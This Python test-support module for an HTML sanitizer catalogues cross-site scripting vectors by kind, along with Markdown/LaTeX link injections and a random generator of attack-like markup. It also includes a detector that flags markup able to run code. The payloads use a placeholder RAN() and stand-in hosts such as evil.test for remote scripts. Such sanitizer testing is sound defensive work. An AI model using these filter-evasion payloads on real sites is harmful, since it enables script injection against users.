"""Markup that tries to run code in the reader's browser, by the way it tries; and what still could.

``RAN()`` stands for the attack. The vectors are written for this project, after the kinds that
collections of filter evasions describe.
"""

from __future__ import annotations

import html
import random
import re
from html.parser import HTMLParser

from maintext.html import parse

VECTORS: dict[str, tuple[str, ...]] = {
    "scripts": (
        "<script>RAN()</script>",
        "<SCRIPT>RAN()</SCRIPT>",
        "<sCrIpT src=//evil.test/x.js></sCrIpT>",
        "<script/src=data:text/javascript,RAN()></script>",
        "<script\n>RAN()</script\n>",
        "<script\x0c>RAN()</script>",
        "<script type=module>RAN()</script>",
        "<script type=text/vbscript>RAN()</script>",
        "<scr<script>ipt>RAN()</scr</script>ipt>",
        "<<script>RAN()//<</script>",
        "<script>RAN()",
        "<script/XSS src=//evil.test/x></script>",
        "</title><script>RAN()</script>",
        "</textarea><script>RAN()</script>",
        "<noscript><p title='</noscript><script>RAN()</script>'>x</noscript>",
        "<script>/*<p>*/RAN()/*</p>*/</script>",
        "<!--><script>RAN()</script>-->",
        "<!-- --!><script>RAN()</script>",
        "<![CDATA[<script>RAN()</script>]]>",
        "<?xml version=1?><script>RAN()</script>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>RAN()</x:script>",
    ),
    "handlers": (
        "<img src=x onerror=RAN()>",
        "<img src=x oNeRrOr=RAN()>",
        "<img/src=x/onerror=RAN()>",
        "<img src=x onerror\n=\nRAN()>",
        "<img src=x onerror\x0c=RAN()>",
        "<img src='x'onerror='RAN()'>",
        '<img src="x"onerror="&#82;AN()">',
        "<img src=x:x onerror=`RAN()`>",
        "<img title='`' onerror=RAN() src=x>",
        '<img """><img src=x onerror=RAN()>">',
        "<p onclick=RAN()>x</p>",
        "<p onmouseover=RAN() style=position:fixed;inset:0>x</p>",
        "<body onload=RAN()>x",
        "<body onpageshow=RAN() background=x>x",
        "<details open ontoggle=RAN()>x</details>",
        "<video src=x onerror=RAN()></video>",
        "<video><source onerror=RAN() src=x></video>",
        "<audio src=x onerror=RAN() controls>x</audio>",
        "<input autofocus onfocus=RAN()>",
        "<select autofocus onfocus=RAN()><option>x</select>",
        "<textarea autofocus onfocus=RAN()>x</textarea>",
        "<button autofocus onfocus=RAN()>x</button>",
        "<p contenteditable autofocus onfocus=RAN() tabindex=1>x</p>",
        "<marquee onstart=RAN()>x</marquee>",
        "<table background=x onload=RAN()><tr><td onbeforecopy=RAN()>x</table>",
        "<a id=x tabindex=1 onfocusin=RAN() href=#x>x</a>",
        "<p style='animation:x' onanimationstart=RAN()>x</p>",
        "<p onpointerrawupdate=RAN()>x</p>",
        "<p \x00onclick=RAN()>x</p>",
        "<p on\x00click=RAN()>x</p>",
        "<p\u00a0onclick=RAN()>x</p>",
        "<p a=1onclick=RAN()>x</p>",
        "<p a='1'onclick=RAN() b>x</p>",
        "<p title=&quot;onclick=RAN()&quot; onclick=RAN()>x</p>",
    ),
    "addresses that run": (
        "<a href=javascript:RAN()>x</a>",
        "<a href=JaVaScRiPt:RAN()>x</a>",
        "<a href=' javascript:RAN()'>x</a>",
        "<a href='\x01javascript:RAN()'>x</a>",
        "<a href='\x1f\x1fjavascript:RAN()'>x</a>",
        "<a href='java\tscript:RAN()'>x</a>",
        "<a href='java\nscript:RAN()'>x</a>",
        "<a href='java\r\nscript:RAN()'>x</a>",
        "<a href='java&Tab;script&colon;RAN&lpar;&rpar;'>x</a>",
        "<a href='java&#x0A;script:RAN()'>x</a>",
        "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RAN()'>x</a>",
        "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3ARAN()'>x</a>",
        "<a href='&#0000106avascript:RAN()'>x</a>",
        "<a href='javascript&#58RAN()'>x</a>",
        "<a href='javascript&#x3A;RAN()'>x</a>",
        "<a href='javascript\t:RAN()'>x</a>",
        "<a href='java\x00script:RAN()'>x</a>",
        "<a href=javascript://evil.test/%0aRAN()>x</a>",
        "<a href='javascript:/*--></title>*/RAN()'>x</a>",
        "<a href=vbscript:RAN()>x</a>",
        "<a href=livescript:RAN()>x</a>",
        "<a href=data:text/html,<script>RAN()</script>>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5SQU4oKTwvc2NyaXB0Pg=='>x</a>",
        "<a href=DATA:image/svg+xml,<svg/onload=RAN()>>x</a>",
        "<a href=view-source:javascript:RAN()>x</a>",
        "<a href=feed:javascript:RAN()>x</a>",
        "<a href=blob:null/x>x</a>",
        "<a href=file:///etc/passwd>x</a>",
        "<a href=x ping=javascript:RAN()>x</a>",
        "<a xlink:href=javascript:RAN()>x</a>",
        "<area href=javascript:RAN() shape=default>",
        "<img src=javascript:RAN()>",
        "<img src=x srcset='javascript:RAN() 1x'>",
        "<img src=x srcset='x 1x, data:image/svg+xml,<svg/onload=RAN()> 2x'>",
        "<img dynsrc=javascript:RAN() lowsrc=javascript:RAN()>",
        "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RAN()%22/>'>",
        "<img src='data:text/html,<script>RAN()</script>'>",
        "<img longdesc=javascript:RAN() usemap=javascript:RAN()>",
        "<video poster=javascript:RAN()>x</video>",
        "<video src=data:text/html,<script>RAN()</script>>x</video>",
        "<audio src=javascript:RAN()>x</audio>",
        "<blockquote cite=javascript:RAN()>x</blockquote>",
        "<q cite=javascript:RAN()>x</q>",
        "<p background=javascript:RAN()>x</p>",
        "<base href='javascript:RAN();//'><a href=x>x</a>",
        "<base href='javascript:/a/..//'><a href=RAN()>x</a>",
    ),
    "elements that load or send": (
        "<iframe src=javascript:RAN()></iframe>",
        "<iframe srcdoc='<script>parent.RAN()</script>'></iframe>",
        "<frameset onload=RAN()><frame src=javascript:RAN()></frameset>",
        "<object data=javascript:RAN()></object>",
        "<object data='data:text/html,<script>RAN()</script>'></object>",
        "<object><param name=src value=javascript:RAN()></object>",
        "<embed src=javascript:RAN()>",
        "<embed code=//evil.test/x.swf allowscriptaccess=always>",
        "<applet code=x archive=//evil.test/x.jar></applet>",
        "<portal src=javascript:RAN()></portal>",
        "<link rel=stylesheet href=javascript:RAN()>",
        "<link rel=import href=//evil.test/x>",
        "<link rel=preload as=script href=//evil.test/x.js onload=RAN()>",
        "<meta http-equiv=refresh content='0;url=javascript:RAN()'>",
        "<meta http-equiv=refresh content='0; url=data:text/html,<script>RAN()</script>'>",
        "<meta http-equiv=Link content='<javascript:RAN()>; rel=stylesheet'>",
        "<meta http-equiv=set-cookie content=a=b>",
        "<meta charset=utf-7>+ADw-script+AD4-RAN()+ADw-/script+AD4-",
        "<form action=javascript:RAN()><input type=submit></form>",
        "<form id=f></form><button form=f formaction=javascript:RAN()>x</button>",
        "<form><input type=image src=x formaction=javascript:RAN() onerror=RAN()></form>",
        "<isindex action=javascript:RAN() type=image>",
        "<keygen autofocus onfocus=RAN()>",
        "<bgsound src=javascript:RAN()>",
        "<layer src=javascript:RAN()></layer>",
        "<xml id=x src=javascript:RAN()></xml>",
        "<x-card is=script onclick=RAN()>x</x-card>",
        "<template><script>RAN()</script><img src=x onerror=RAN()></template>",
        "<p><template shadowrootmode=open><img src=x onerror=RAN()></template></p>",
    ),
    "styles": (
        "<style>*{background:url(javascript:RAN())}</style>",
        "<style>@import 'javascript:RAN()';</style>",
        "<style>p{-moz-binding:url(//evil.test/x.xml)}</style><p>x</p>",
        "<p style='width:expression(RAN())'>x</p>",
        "<p style='wid\\th:ex/**/pression(RAN())'>x</p>",
        "<p style='background-image:url(javascript:RAN())'>x</p>",
        "<p style='behavior:url(x.htc)'>x</p>",
        "<p style='background:\\75rl(javascript:RAN())'>x</p>",
        "<style></style><img src='</style><img src=x onerror=RAN()//'>",
        "<style><img src='</style><img src=x onerror=RAN()>'></style>",
    ),
    "foreign content": (
        "<svg onload=RAN()>",
        "<svg/onload=RAN()>",
        "<svg><script>RAN()</script></svg>",
        "<svg><script href=data:,RAN() /></svg>",
        "<svg><script>&#82;AN()</script></svg>",
        "<svg><a xlink:href=javascript:RAN()><text y=1em>x</text></a></svg>",
        "<svg><animate onbegin=RAN() attributeName=x dur=1s></svg>",
        "<svg><a><set attributeName=href to=javascript:RAN() /><text>x</text></a></svg>",
        "<svg><foreignObject><img src=x onerror=RAN()></foreignObject></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x><script>RAN()</script></svg>#x'/></svg>",
        "<svg><style><img src=x onerror=RAN()></style></svg>",
        "<svg><desc><img src=x onerror=RAN()></desc></svg>",
        "<svg><title><script>RAN()</script></title></svg>",
        "<math><mtext><script>RAN()</script></mtext></math>",
        "<math href=javascript:RAN()>x</math>",
        "<math><mi xlink:href=javascript:RAN()>x</mi></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:RAN()>x</maction></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=RAN()></annotation-xml></math>",
        "<math><semantics><annotation encoding=text/html><img src=x onerror=RAN()></annotation></math>",
        "<math><mtext><img src=x onerror=RAN()></mtext></math>",
    ),
    "markup that changes when it is read again": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RAN()&gt;'>",
        "<math><mtext><table><mglyph><style><math><table><mglyph><img src=x onerror=RAN()></style></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RAN()></style></mglyph>",
        "<svg></p><style><a id='</style><img src=x onerror=RAN()>'></svg>",
        "<svg><p><style><g title='</style><img src=x onerror=RAN()>'></p></svg>",
        "<noscript><style></noscript><img src=x onerror=RAN()></style></noscript>",
        "<xmp><p title='</xmp><img src=x onerror=RAN()>'></xmp>",
        "<noembed><p title='</noembed><img src=x onerror=RAN()>'></noembed>",
        "<noframes><p title='</noframes><img src=x onerror=RAN()>'></noframes>",
        "<iframe><p title='</iframe><img src=x onerror=RAN()>'></iframe>",
        "<plaintext><img src=x onerror=RAN()>",
        "<listing>&lt;img src=x onerror=RAN()&gt;</listing>",
        "<xmp>&lt;/xmp&gt;<img src=x onerror=RAN()></xmp>",
        "<textarea>&lt;/textarea&gt;<img src=x onerror=RAN()></textarea>",
        "<title>&lt;/title&gt;<img src=x onerror=RAN()></title>",
        "<p title='&lt;img src=x onerror=RAN()&gt;'>x</p>",
        "<pre>&lt;script&gt;RAN()&lt;/script&gt;</pre>",
        "&lt;script&gt;RAN()&lt;/script&gt;",
        "&amp;lt;img src=x onerror=RAN()&amp;gt;",
        "\uff1cscript\uff1eRAN()\uff1c/script\uff1e",
        "<select><style></select><img src=x onerror=RAN()></style></select>",
        "<select><template><img src=x onerror=RAN()></template></select>",
        "<table><tr><td><math><mi></td><img src=x onerror=RAN()></table>",
        "<table><caption><svg></caption><img src=x onerror=RAN()></table>",
        "<a><table><a href=javascript:RAN()>x</a></table></a>",
        "<b><p><b><p><img src=x onerror=RAN()></b></p>",
        "<ruby><rt><svg></rt><img src=x onerror=RAN()></ruby>",
        "<p><svg><foreignObject><p></svg><img src=x onerror=RAN()>",
        "<mglyph><svg><mtext><style><path id='</style><img onerror=RAN() src=x>'>",
        "<math><!--<mi>--><style><!--</style><img src=x onerror=RAN()>--></style></math>",
    ),
    "names that shadow": (
        "<a id=getElementById>x</a>",
        "<img id=cookie name=cookie src=x>",
        "<a id=config href=javascript:RAN()>x</a><a id=config name=url href=data:,RAN()>y</a>",
        "<p id=body>x</p>",
        "<h2 id=__proto__>x</h2>",
    ),
}  # fmt: skip
"""Vectors by kind."""

FORMULAS = (
    "a [c](javascript:RAN()) b", "a [c] (javascript:RAN()) b", "![c](http://evil.test/x.png)", "[x", "a]",
    "](javascript:RAN())", "[c]\u200b(javascript:RAN())", r"[c]\relax(javascript:RAN())",
    r"\](javascript:RAN())", r"\\](javascript:RAN())", r"\text{[c](javascript:RAN())}",
    r"\text{a {b} [c](javascript:RAN())}", r"\text{$[c](javascript:RAN())$}", r"\sqrt[c](javascript:RAN())",
    "[a]: javascript:RAN()", "[a][b] [b]", "<img src=x onerror=RAN()>", "<b", "x <", "<1", "</p><!-- x -->",
    "<?x?>", "&lt;img src=x onerror=RAN()&gt;", "<javascript:RAN()>", "<http://evil.com>", "<a@evil.com>",
    "<1@evil.com>", "http://evil.com/x", "//evil.com/", "ftp://evil.com/", "www.evil.com", "a@evil.com",
    "mailto:a@b", "xmpp:a@evil.com", "evil.com", "x[^1]", "[[c]]", "`", "``", r"\`",
    "` [c](javascript:RAN()) `", "a`b", "$ [c](javascript:RAN()) $", "x\\", "x\\\\", "> x", "# x", "|a|b|",
    "![",
)  # fmt: skip
"""LaTeX that is something else to a Markdown renderer."""


def pages_with_formula(latex: str) -> dict[str, str]:
    """Pages with a formula, by the way its LaTeX is stated; then code, and text that is no code."""
    text = html.escape(latex)
    note = f'<annotation encoding="application/x-tex">{text}</annotation>'
    ways = {
        "inline": rf"\( {text} \)",
        "display": rf"\[ {text} \]",
        "dollars": f"$${text}$$",
        "environment": rf"\begin{{align}} {text} \end{{align}}",
        "script": f'<script type="math/tex">{latex}</script>',
        "display script": f'<script type="math/tex; mode=display">{latex}</script>',
        "annotation": f"<math><semantics><mi>x</mi>{note}</semantics></math>",
        "mtext": f"<math><mtext>{text}</mtext></math>",
        "mi": f"<math><mi>{text}</mi><mo>{text}</mo></math>",
        "alttext": f'<math alttext="{text}"><mi>x</mi></math>',
        "picture": f'<img class=latex alt="{text}">',
    }
    after = "(javascript:RAN()) a@b.cd&gt; <code>[q](javascript:RAN())</code> and `[r](javascript:RAN())`"
    return {way: f"<p>The formula [of {formula}{after}.</p>" for way, formula in ways.items()}


_NAMES = (
    "script style img a p svg math mtext mglyph annotation-xml iframe object embed base meta link form input "
    "template noscript title textarea xmp plaintext table td select option video source b x-y foreignObject "
    "desc details body frameset marquee listing button"
).split()
_ATTRIBUTES = (
    "href src srcset xlink:href onerror onclick onload ONFOCUS style srcdoc action formaction poster cite "
    "data id class title background http-equiv content is ping type encoding"
).split()
_VALUES = (
    "javascript:RAN()", "JAVASCRIPT&colon;RAN()", " java\tscript:RAN()", "\x01javascript:RAN()", "RAN()",
    "data:text/html,<script>RAN()</script>", "data:image/svg+xml,<svg onload=RAN()>", "vbscript:RAN()",
    "x", "//evil.test/x", "</style><img src=x onerror=RAN()>", "--><script>RAN()</script>", "text/html",
    "0;url=javascript:RAN()", "x 1x, javascript:RAN() 2x", "&#106;avascript&#58;RAN()", "expression(RAN())",
    "body", "refresh", "'\"><img src=x onerror=RAN()>",
)  # fmt: skip
_TEXTS = (
    "x", "RAN()", "&lt;script&gt;RAN()&lt;/script&gt;", "<!--", "-->", "<![CDATA[", "]]>", "</", "<", "&",
    "<!", "<?", "\x00", "</p>", "</style>", "</script>", "</title>", "</svg>", "</math>", "</table>", "</>",
)  # fmt: skip
_SPACES = (" ", "\n", "\t", "/", "\x0c", " / ")
_QUOTES = ("", '"', "'", "`")


def generated_fragment(seed: int) -> str:
    """Markup put together at random from what attacks are made of."""
    choice = random.Random(seed)  # noqa: S311 - tests, the same ones every time
    return "".join(_piece(choice) for _ in range(choice.randint(1, 12)))


def _piece(choice: random.Random) -> str:
    kind = choice.random()
    if kind < 0.25:
        return choice.choice(_TEXTS)
    if kind < 0.4:
        return f"</{choice.choice(_NAMES)}>"
    attributes = "".join(
        choice.choice(_SPACES) + choice.choice(_ATTRIBUTES) + "=" + quote + choice.choice(_VALUES) + quote
        for quote in (choice.choice(_QUOTES) for _ in range(choice.randint(0, 3)))
    )
    return f"<{choice.choice(_NAMES)}{attributes}{choice.choice(('>', '/>', ' >', ''))}"


# -- what could still run -----------------------------------------------------------------------------

_RUNS = frozenset(
    "script style svg iframe frame frameset object embed applet base meta link form input button select "
    "textarea template noscript portal isindex keygen bgsound layer xml animate set use foreignobject area "
    "annotation-xml mglyph malignmark title xmp plaintext noembed noframes listing".split()
)
_ADDRESSES = frozenset(
    "href src srcset action formaction data poster cite background xlink:href ping longdesc".split()
)
_SAFE_ADDRESS = re.compile(r"(?:https?|mailto|tel|ftp):|[^:]*\Z|[^:]*[/?#]", re.IGNORECASE)
_SAFE_IMAGE = re.compile(r"data:image/(?:png|gif|jpe?g|webp|avif);base64,", re.IGNORECASE)
_IGNORED = dict.fromkeys(range(0x21))


class _Reader(HTMLParser):
    """Start tags as Python's own parser reads them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def dangers(markup: str) -> list[str]:
    """What in a piece of HTML could run code, load a program or send a form; read by two parsers."""
    reader = _Reader()
    reader.feed(markup)
    reader.close()
    page = parse(markup)
    elements = [row for row in range(len(page)) if not page.is_text[row]]
    tags = reader.tags + [(page.name(row), page.attributes(row)) for row in elements]
    found = [f"<{tag}>" for tag, _ in reader.tags if tag in _RUNS]
    # Scripts, styles and drawings are not rows of a page.
    found += re.findall(r"(?i)<(?:script|style|svg|iframe|object|embed)\b", _without_values(markup))
    return found + [danger for tag, values in tags for danger in _dangers(tag, values)]


def _dangers(tag: str, values: dict[str, str]) -> list[str]:
    found = [f"{tag} {name}" for name in values if name.startswith("on") or name in {"style", "srcdoc", "is"}]
    for name in values.keys() & _ADDRESSES:
        address = values[name].translate(_IGNORED)
        is_image = tag == "img" and name == "src" and _SAFE_IMAGE.match(address)
        if not is_image and not _SAFE_ADDRESS.match(address):
            found.append(f"{tag} {name}={address}")
    if "id" in values and not values["id"].startswith("user-content-"):
        found.append(f"{tag} id={values['id']}")
    return found


def _without_values(markup: str) -> str:
    return re.sub(r'="[^"]*"', "", markup)
